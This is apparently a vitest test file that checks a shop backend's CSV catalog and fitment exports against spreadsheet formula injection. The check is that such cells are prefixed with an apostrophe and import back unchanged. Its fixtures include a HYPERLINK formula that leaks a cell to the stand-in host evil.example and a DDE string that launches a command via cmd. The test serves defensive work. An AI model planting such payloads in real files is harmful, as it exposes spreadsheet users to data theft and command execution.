import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { signUpAdmin } from '../../test/auth-helper.ts';
import { buildTestApp } from '../../test/helper.ts';
import { multipartBody } from '../../test/image-fixtures.ts';
import { csvCell, csvCellRead } from './csv-download.ts';

const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const MPN = '@SUM(1+1)';
const BRAND = "+cmd|' /C calc'!A0";
const DESCRIPTION = '- a bullet that starts with a minus';
const NOTE = '=1+2';

/** Issue 31: no CSV the shop writes lets a spreadsheet run a cell as a formula. Both databases. */
describe('CSV exports keep typed text from running as a formula', async () => {
  const app = await buildTestApp();
  const admin = await signUpAdmin(app);
  await app.db.execute(sql`insert into vehicles (year, make, model, engine, engine_code, fuel)
    values (2016, 'Toyota', 'Corolla', '1.8L L4', '2ZR-FE', 'gas')`);

  const upload = async (url: string, csv: string) => {
    const form = multipartBody([
      { name: 'file', filename: 'f.csv', contentType: 'text/csv', content: csv },
    ]);
    const res = await app.inject({
      method: 'POST',
      url,
      headers: { ...form.headers, cookie: admin.cookie },
      payload: form.payload,
    });
    expect(res.statusCode, res.body).toBe(200);
    return res.json().data as Record<string, unknown>;
  };
  const download = async (url: string) => {
    const res = await app.inject({ url, headers: { cookie: admin.cookie } });
    expect(res.statusCode, res.body).toBe(200);
    return { body: res.body, rows: parse(res.body, { columns: true }) as Record<string, string>[] };
  };
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const stored = async () =>
    (
      await app.db.execute<{ name: string; mpn: string; brand: string; description: string }>(sql`
        select p.name, p.mpn, b.name as brand, p.description from products p
        join brands b on b.id = p.brand_id where p.sku = 'INJ-1'`)
    ).rows[0];

  await upload(
    '/api/v1/catalog/import',
    `sku,name,mpn,brand,price,img,description\nINJ-1,${quoted(NAME)},${MPN},${quoted(BRAND)},4.50,/images/products/inj-1.svg,${DESCRIPTION}\n`,
  );
  await upload(
    '/api/v1/fitment/import',
    `sku,year_from,make,model,note\nINJ-1,2016,Toyota,Corolla,${quoted(NOTE)}\n`,
  );

  it('the import stored the text as typed', async () => {
    expect(await stored()).toEqual({
      name: NAME,
      mpn: MPN,
      brand: BRAND,
      description: DESCRIPTION,
    });
  });

  it('the catalog export writes each such cell behind an apostrophe, and imports back unchanged', async () => {
    const { body, rows } = await download('/api/v1/catalog/export.csv');
    const row = rows.find((r) => r.sku === 'INJ-1');
    expect(row).toMatchObject({
      name: `'${NAME}`,
      mpn: `'${MPN}`,
      brand: `'${BRAND}`,
      description: `'${DESCRIPTION}`,
      price: '4.50',
    });
    const again = await upload('/api/v1/catalog/import', body);
    expect(again).toMatchObject({ created: 0, updated: 0, rejected: 0 });
    expect(await stored()).toEqual({
      name: NAME,
      mpn: MPN,
      brand: BRAND,
      description: DESCRIPTION,
    });
  });

  it('the fitment export writes the note behind an apostrophe, and imports back unchanged', async () => {
    const { body, rows } = await download('/api/v1/fitment/export');
    expect(rows).toEqual([expect.objectContaining({ sku: 'INJ-1', note: `'${NOTE}` })]);
    expect(await upload('/api/v1/fitment/import', body)).toMatchObject({
      added: 0,
      updated: 0,
      unchanged: 1,
      rejected: 0,
    });
    const notes = (await app.db.execute<{ note: string }>(sql`select note from fitments`)).rows;
    expect(notes).toEqual([{ note: NOTE }]);
  });

  it('every formula sign is neutralised; plain numbers and other text are left alone; reading undoes it', () => {
    for (const text of ['=1', '+1', '-x', '@a', '\tx', '\rx', "'=1", "''+1"])
      expect(csvCell(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const value of ['-12.50', '-3', 'abc', "'abc", '', 7, -7])
      expect(csvCell(value)).toBe(value);
    expect(csvCell(null)).toBe('');
    for (const text of ['=1', "'=1", "''-x", "'abc", '-12.50', 'x'])
      expect(csvCellRead(String(csvCell(text)))).toBe(text);
  });
});
